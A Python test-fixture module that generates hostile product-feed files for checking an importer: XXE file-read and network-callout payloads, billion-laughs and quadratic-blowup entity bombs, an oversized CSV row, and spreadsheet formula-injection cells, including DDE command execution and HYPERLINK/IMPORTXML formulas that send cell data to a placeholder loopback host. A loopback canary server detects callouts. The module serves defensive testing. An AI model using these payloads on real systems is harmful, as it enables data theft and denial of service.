"""Hostile feed payloads, for the tests and the demo: what a compromised supplier, a man in the
middle or just a badly broken export can put in a feed we import unattended.

Each writer streams its file to disk and returns the path; its docstring says what a correct
importer does with it. The XML payloads use the shape of a plain product feed
(`<products><product><id/><gtin/><title/><price/>...`) with a few good products around the bad
part, so a test can check that the good rows still load.

`serve_canary()` is a loopback listener that records every connection made to it: point an
external entity at it, parse, and `canary.hits == []` proves the parser fetched nothing.
"""
from __future__ import annotations

import csv
import socketserver
import threading
from pathlib import Path
from xml.sax.saxutils import escape

# Spreadsheet formula injection (CWE-1236): cells a spreadsheet would execute when an analyst
# opens an export. A correct importer stores them as the text they are and neutralises them on
# any CSV/XLSX export; it never evaluates or "cleans" them into something else silently.
FORMULA_CELLS = (
    '=HYPERLINK("http://127.0.0.1:9/steal?d="&A1,"Click for discount")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML(CONCAT("http://127.0.0.1:9/?leak=",B2),"//a")',
)

_GOOD = (("SKU-1", "Espresso cup", "4.90"), ("SKU-2", "Milk jug", "12.50"), ("SKU-3", "Tamper", "24.00"))


def gtin13(n: int) -> str:
    """A valid GTIN-13 (GS1 check digit) from a running number, so hostile rows fail for the reason
    under test and not for a bad barcode."""
    body = f"400{n:09d}"
    total = sum(int(d) * (3 if i % 2 else 1) for i, d in enumerate(body))
    return body + str((10 - total % 10) % 10)


def _product_xml(i: int, sku: str, title: str, price: str) -> str:
    return (f"  <product><id>{escape(sku)}</id><gtin>{gtin13(i)}</gtin><title>{title}</title>"
            f"<price>{price} EUR</price><availability>in stock</availability></product>\n")


def _write_xml(path: Path, doctype: str, hostile_title: str) -> Path:
    path = Path(path)
    with open(path, "w", encoding="utf-8") as out:
        out.write('<?xml version="1.0" encoding="UTF-8"?>\n')
        out.write(doctype)
        out.write("<products>\n")
        out.write(_product_xml(1, *_GOOD[0]))
        out.write(_product_xml(2, "SKU-EVIL", hostile_title, "1.00"))
        for i, good in enumerate(_GOOD[1:], start=3):
            out.write(_product_xml(i, *good))
        out.write("</products>\n")
    return path


def write_xxe_file(path: Path, target: Path) -> Path:
    """An external entity that reads a local file into a product title (classic XXE).

    A hardened parser leaves `&xxe;` unresolved (or drops it): the target's content must never
    appear in any loaded or quarantined value. Put a unique marker in `target` to check that."""
    uri = Path(target).resolve().as_uri()
    doctype = f'<!DOCTYPE products [\n  <!ENTITY xxe SYSTEM "{uri}">\n]>\n'
    return _write_xml(path, doctype, "Leak: &xxe;")


def write_xxe_http(path: Path, base_url: str) -> Path:
    """Every way an XML file can make its parser call out, all at `base_url` (a canary):
    an external DTD (`/dtd`), an external parameter entity expanded in the internal subset
    (`/param`), an external general entity in a title (`/entity`) and an XInclude (`/xinclude`).

    A hardened parser (no network, no DTD loading, entities not resolved, no XInclude) makes no
    connection at all: the canary's `hits` stays empty."""
    base = base_url.rstrip("/")
    doctype = (f'<!DOCTYPE products SYSTEM "{base}/dtd" [\n'
               f'  <!ENTITY % remote SYSTEM "{base}/param">\n'
               f"  %remote;\n"
               f'  <!ENTITY ext SYSTEM "{base}/entity">\n'
               f"]>\n")
    title = f'Fetch: &ext;<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{base}/xinclude" parse="text"/>'
    return _write_xml(path, doctype, title)


def write_billion_laughs(path: Path, levels: int = 10, fanout: int = 10) -> Path:
    """Nested internal entities: a few hundred bytes that expand to fanout**levels copies of "lol"
    (10**10 by default, ~30 GB). A hardened parser refuses or leaves it unexpanded, in
    milliseconds and without memory growth; the good products still load."""
    lines = ['  <!ENTITY lol0 "lol">']
    for level in range(1, levels):
        refs = f"&lol{level - 1};" * fanout
        lines.append(f'  <!ENTITY lol{level} "{refs}">')
    doctype = "<!DOCTYPE products [\n" + "\n".join(lines) + "\n]>\n"
    return _write_xml(path, doctype, f"&lol{levels - 1};")


def write_quadratic_blowup(path: Path, entity_bytes: int = 100_000, references: int = 20_000) -> Path:
    """One big entity referenced many times (2 GB expanded by default): slips past parsers that
    only limit nesting depth. Same expectation as billion laughs."""
    doctype = f'<!DOCTYPE products [\n  <!ENTITY a "{"x" * entity_bytes}">\n]>\n'
    return _write_xml(path, doctype, "&a;" * references)


def write_formula_injection_csv(path: Path) -> Path:
    """A product CSV whose titles and descriptions are spreadsheet formulas (FORMULA_CELLS), among
    ordinary rows. Every row is otherwise valid and must load with the text unchanged."""
    path = Path(path)
    with open(path, "w", encoding="utf-8", newline="") as out:
        writer = csv.writer(out)
        writer.writerow(["sku", "gtin", "title", "description", "price", "quantity"])
        writer.writerow(["SKU-1", gtin13(1), "Espresso cup", "Porcelain, 80 ml", "4.90", "12"])
        for i, cell in enumerate(FORMULA_CELLS, start=2):
            writer.writerow([f"SKU-F{i}", gtin13(i), cell, cell, "9.99", "1"])
        writer.writerow(["SKU-LAST", gtin13(99), "Milk jug", "Steel, 350 ml", "12.50", "3"])
    return path


def write_oversized_line_csv(path: Path, line_bytes: int = 32 * 1024 * 1024) -> Path:
    """A product CSV with one row whose description is `line_bytes` long (no newline in it),
    between ordinary rows. A streaming parser quarantines that row (or refuses it with a clear
    field-size reason) without holding more than its limit in memory; the other rows load."""
    path = Path(path)
    piece = b"A" * (1024 * 1024)
    with open(path, "wb") as out:
        out.write(b"sku,gtin,title,description,price,quantity\n")
        out.write(f"SKU-1,{gtin13(1)},Espresso cup,Porcelain,4.90,12\n".encode())
        out.write(f"SKU-HUGE,{gtin13(2)},Huge row,".encode())
        left = line_bytes
        while left > 0:
            out.write(piece[: min(left, len(piece))])
            left -= len(piece)
        out.write(b",1.00,1\n")
        out.write(f"SKU-3,{gtin13(3)},Milk jug,Steel,12.50,3\n".encode())
    return path


class Canary:
    """A loopback TCP listener that records every connection (and its first line, e.g.
    `GET /entity HTTP/1.0`), answering like a small HTTP server so a careless client would get a
    payload. `hits` empty after parsing means nothing was fetched."""

    def __init__(self, host: str = "127.0.0.1"):
        self.hits: list[str] = []
        lock = threading.Lock()
        hits = self.hits

        class Handler(socketserver.StreamRequestHandler):
            timeout = 2.0

            def handle(self) -> None:
                try:
                    first = self.rfile.readline(8192).decode("latin-1").strip()
                except (TimeoutError, OSError):
                    first = ""
                with lock:
                    hits.append(first or "<connection>")
                body = b'<!ENTITY canary "CANARY-FETCHED">CANARY-FETCHED'
                try:
                    self.wfile.write(b"HTTP/1.0 200 OK\r\nContent-Type: application/xml-dtd\r\n"
                                     b"Content-Length: %d\r\n\r\n%s" % (len(body), body))
                except OSError:
                    pass

        class Server(socketserver.ThreadingTCPServer):
            daemon_threads = True
            allow_reuse_address = True

        self._server = Server((host, 0), Handler)
        self.host, self.port = self._server.server_address[:2]
        self._thread = threading.Thread(target=self._server.serve_forever, kwargs={"poll_interval": 0.05},
                                        name=f"sandbox-canary-{self.port}", daemon=True)
        self._thread.start()

    @property
    def base_url(self) -> str:
        return f"http://{self.host}:{self.port}"

    def url(self, path: str = "") -> str:
        return f"{self.base_url}/{path.lstrip('/')}"

    def stop(self) -> None:
        self._server.shutdown()
        self._server.server_close()
        self._thread.join(2.0)

    def __enter__(self) -> Canary:
        return self

    def __exit__(self, *exc) -> None:
        self.stop()


def serve_canary(host: str = "127.0.0.1") -> Canary:
    """Start a Canary on a free loopback port."""
    return Canary(host)
